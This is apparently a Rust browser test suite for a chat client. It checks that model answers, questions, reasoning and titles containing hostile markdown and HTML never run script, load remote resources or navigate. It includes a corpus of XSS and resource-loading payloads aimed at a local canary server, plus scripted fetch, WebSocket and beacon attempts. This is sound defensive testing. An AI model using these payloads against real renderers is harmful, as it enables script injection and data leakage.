//! What a hostile answer may not do: run, load, navigate, call the bridge. And what a link does.

use std::{
    io::{Read, Write},
    net::TcpListener,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
};

use capibara6_journeys::{Home, Key, MODEL, Window, until};
use capibara6_testkit::ModelServer;
use serde_json::json;

/// A server that nothing in an answer may reach; counts who does.
struct Canary {
    address: String,
    hits: Arc<AtomicUsize>,
}

impl Canary {
    fn start() -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).expect("a free port");
        let address = format!("127.0.0.1:{}", listener.local_addr().expect("a bound address").port());
        let hits = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&hits);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                counted.fetch_add(1, Ordering::SeqCst);
                // whatever was asked for: that somebody asks at all is the failure
                let _asked = stream.read(&mut [0; 1024]);
                stream.write_all(b"HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n").ok();
            }
        });
        Self { address, hits }
    }
}

/// Everything that has made a chat client run or load something (field notes X1, X2, X8), aimed at `HOST`.
const CORPUS: &[&str] = &[
    "![pixel](http://HOST/image.png)",
    "![reference][pixel]\n\n[pixel]: http://HOST/reference.png",
    "[![nested](http://HOST/nested.png)](http://HOST/link)",
    "![data](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93LnB3bmVkPTEiLz4=)",
    "<img src=http://HOST/raw.png onerror=window.pwned=1>",
    "<img src=x onerror=\"window.pwned=1\">",
    "<script>window.pwned=1</script><script src=http://HOST/s.js></script>",
    "<svg onload=window.pwned=1><image href=http://HOST/svg.png /></svg>",
    "<svg><use href=\"http://HOST/use.svg#x\"/><foreignObject><iframe src=http://HOST/fo></iframe></foreignObject></svg>",
    "<iframe src=http://HOST/frame></iframe><iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<link rel=stylesheet href=http://HOST/c.css><link rel=prefetch href=http://HOST/p><link rel=icon href=http://HOST/i>",
    "<style>@import url(http://HOST/import.css); * { background: url(http://HOST/bg.png) }</style>",
    "<div style=\"background:url(http://HOST/inline.png)\">styled</div>",
    "<video src=http://HOST/v.mp4 poster=http://HOST/poster.png autoplay></video><audio src=http://HOST/a.mp3 autoplay></audio>",
    "<object data=http://HOST/o></object><embed src=http://HOST/e>",
    "<meta http-equiv=refresh content=\"0;url=http://HOST/meta\"><base href=http://HOST/>",
    "<form action=http://HOST/form><input autofocus onfocus=window.pwned=1><button>send</button></form>",
    "<a href=\"http://HOST/ping\" ping=\"http://HOST/pinged\">ping</a>",
    "<details open ontoggle=window.pwned=1>x</details><marquee onstart=window.pwned=1>x</marquee>",
    "[click](javascript:window.pwned=1) [upper](JaVaScRiPt:window.pwned=1) [tab](java&#9;script:window.pwned=1)",
    "[data](data:text/html,<script>opener.pwned=1</script>) [vb](vbscript:window.pwned=1) [file](file:///etc/passwd)",
    "<http://HOST/auto> http://HOST/bare",
    "$\\href{javascript:window.pwned=1}{x}$ $\\includegraphics{http://HOST/math.png}$ $\\url{javascript:window.pwned=1}$",
    "$$\\htmlStyle{background:url(http://HOST/katex)}{x} \\htmlData{x=y}{z} \\htmlId{app}{q}$$",
    "```html\n<img src=http://HOST/code.png onerror=window.pwned=1>\n```",
    "```mermaid\ngraph TD; A[\"<img src=http://HOST/mermaid onerror=window.pwned=1>\"]-->B; click A \"javascript:window.pwned=1\"\n```",
    "```\"><img src=http://HOST/info onerror=window.pwned=1>\nlanguage as an attack\n```",
    "| a |\n|---|\n| <img src=http://HOST/cell.png onerror=window.pwned=1> |",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=http://HOST/mxss onerror=window.pwned=1&gt;\">",
    "<div data-testid=\"send\" id=\"app\" name=\"journey\">clobber</div><form id=journey><input name=violations></form>",
    "[title](http://HOST/t \"\\\" onmouseover=window.pwned=1 x=\\\"\")",
    "![alt \" onerror=window.pwned=1 x=\"](x)",
    "\u{202e}gnp.exe\u{202c} [bidi](http://HOST/\u{202e}moc.elgoog)",
];

/// Elements that an answer may not have become. An `img` with a `data:` address would be the program's own affair.
const FORBIDDEN: &str = r#"
    const bad = 'script, iframe, object, embed, link, style, meta, base, form, video, audio, svg image, svg use, foreignObject, [onerror], [onload], [onclick], [ping], [srcdoc]';
    const inside = document.querySelectorAll('[data-testid="message"]');
    const found = [...inside].flatMap((message) => [...message.querySelectorAll(bad)].map((e) => e.outerHTML.slice(0, 200)));
    const remote = [...inside].flatMap((message) => [...message.querySelectorAll('[src], [srcset], [poster], [background]')])
        .map((e) => e.getAttribute('src') ?? e.getAttribute('srcset') ?? '').filter((src) => !/^(data:image\/|blob:)/.test(src));
    const links = [...inside].flatMap((message) => [...message.querySelectorAll('a[href]')])
        .map((a) => a.getAttribute('href')).filter((href) => !/^(https?:|mailto:|#)/i.test(href));
    return { found, remote, links, pwned: 'pwned' in window, url: location.href };
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_answer_runs_nothing_and_loads_nothing() {
    let canary = Canary::start();
    let server = ModelServer::start(&[MODEL]).await;
    let mut window = Window::open(Home::of(&server)).await;
    let url = window.script("return location.href", &[]).await;
    let clean = json!({ "found": [], "remote": [], "links": [], "pwned": false, "url": url });

    // as an answer, while it streams in small pieces and when it is complete; as the question; as reasoning
    for (round, chunk) in CORPUS.chunks(12).enumerate() {
        let attack = chunk.join("\n\n").replace("HOST", &canary.address);
        window.click("new-chat").await;
        window.until_messages("an empty conversation", <[_]>::is_empty).await;
        window.script(PASTE, &[attack.clone().into()]).await;
        window.click("send").await;
        let mut exchange = server.next_chat().await;
        exchange.send_reasoning(&attack).await;
        let letters: Vec<char> = attack.chars().collect();
        for piece in letters.chunks(11) {
            exchange.send_text(&piece.iter().collect::<String>()).await;
        }
        exchange.send_text("\n\nend of the attack").await;
        window
            .until_messages("the attack is painted", |all| {
                all.last().is_some_and(|last| last.text.ends_with("end of the attack"))
            })
            .await;
        assert_eq!(window.script(FORBIDDEN, &[]).await, clean, "while streaming, round {round}");
        exchange.finish("stop").await;
        exchange.done().await;
        window.until_messages("complete", |all| all.last().is_some_and(|last| last.status == "complete")).await;
        assert_eq!(window.script(FORBIDDEN, &[]).await, clean, "complete, round {round}");
        window.reload().await;
        window
            .until_messages("shown again", |all| {
                all.last().is_some_and(|last| last.text.ends_with("end of the attack"))
            })
            .await;
        assert_eq!(window.script(FORBIDDEN, &[]).await, clean, "from the database, round {round}");
    }
    // as a title
    let title = "<img src=http://HOST/title.png onerror=window.pwned=1>".replace("HOST", &canary.address);
    window.click("new-chat").await;
    window.until_messages("an empty conversation", <[_]>::is_empty).await;
    window.ask(&title).await;
    server.next_chat().await.say_all(&["No."]).await;
    window.until_last("complete", "No.").await;
    assert_eq!(window.script("return 'pwned' in window", &[]).await, json!(false));
    window.shot("safety").await;
    assert_eq!(canary.hits.load(Ordering::SeqCst), 0, "something was loaded");
    assert_eq!(window.home().opened_links(), Vec::<String>::new(), "something was opened");
    window.close().await;
}

/// Fills the composer as a paste does; WebDriver's keys would take minutes for so much text.
const PASTE: &str = r#"
    const field = document.querySelector('[data-testid="composer"]');
    const set = Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value').set;
    set.call(field, arguments[0]);
    field.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true, inputType: 'insertFromPaste' }));
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_link_shows_its_host_first_and_never_navigates() {
    let server = ModelServer::start(&[MODEL]).await;
    let window = Window::open(Home::of(&server)).await;
    let url = window.script("return location.href", &[]).await;
    window.ask("A link").await;
    server
        .next_chat()
        .await
        .say_all(&["See [the map](https://maps.example.org/rivers?q=1) and [evil](javascript:alert(1))."])
        .await;
    window.until_messages("the answer", |all| all.last().is_some_and(|last| last.status == "complete")).await;

    window.click_css("[data-testid=\"message-text\"] a[href^=\"https:\"]").await;
    window.until_data("[data-testid=\"link-door\"]", "host", "maps.example.org").await;
    assert!(window.text("[data-testid=\"link-door\"]").await.contains("https://maps.example.org/rivers?q=1"));
    window.shot("link-door").await;
    assert_eq!(window.home().opened_links(), Vec::<String>::new(), "nothing is opened before it is confirmed");
    window.press(Key::Escape).await;
    window.until_gone("[data-testid=\"link-door\"]").await;
    assert_eq!(window.home().opened_links(), Vec::<String>::new());

    window.click_css("[data-testid=\"message-text\"] a[href^=\"https:\"]").await;
    window.click("link-open").await;
    until("the browser was asked", async || {
        (window.home().opened_links() == ["https://maps.example.org/rivers?q=1"]).then_some(())
    })
    .await;
    assert_eq!(window.script("return location.href", &[]).await, url);
    assert_eq!(window.count("[data-testid=\"message-text\"] a:not([href^=\"https:\"])").await, 0);
    window.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_cannot_leave_nor_reach_the_network_by_itself() {
    let canary = Canary::start();
    let server = ModelServer::start(&[MODEL]).await;
    let mut window = Window::open(Home::of(&server)).await;
    let url = window.script("return location.href", &[]).await;
    // even a script of ours, which should not exist, finds every way out closed
    let tried = window
        .script_async(
            "const [host, done] = arguments; \
             const image = new Image(); image.src = `http://${host}/image.png`; \
             const results = {}; \
             const attempts = { \
                fetch: () => fetch(`http://${host}/fetch`, { mode: 'no-cors' }), \
                socket: () => new Promise((yes, no) => { const s = new WebSocket(`ws://${host}/ws`); s.onopen = yes; s.onerror = no; }), \
                beacon: async () => { if (!navigator.sendBeacon(`http://${host}/beacon`)) throw new Error('refused'); }, \
                evaluate: async () => (0, eval)('1'), \
                sink: async () => { document.createElement('div').innerHTML = '<b>x</b>'; }, \
             }; \
             Promise.all(Object.entries(attempts).map(async ([name, attempt]) => { \
                try { await attempt(); results[name] = 'worked'; } catch { results[name] = 'refused'; } \
             })).then(() => { location.href = `http://${host}/navigate`; setTimeout(() => done(results), 300); });",
            &[canary.address.clone().into()],
        )
        .await;
    let mut tried = tried;
    // a beacon reports only whether it was queued; what counts is that it never arrives
    tried.as_object_mut().expect("results").remove("beacon");
    assert_eq!(tried, json!({ "fetch": "refused", "socket": "refused", "evaluate": "refused", "sink": "refused" }));
    assert_eq!(window.script("return location.href", &[]).await, url);
    assert_eq!(canary.hits.load(Ordering::SeqCst), 0);
    // and this proves that refusals are noticed in all other journeys
    let violations = window.take_violations().await;
    assert!(violations.iter().any(|violation| violation.starts_with("connect-src")), "{violations:?}");
    window.close().await;
}
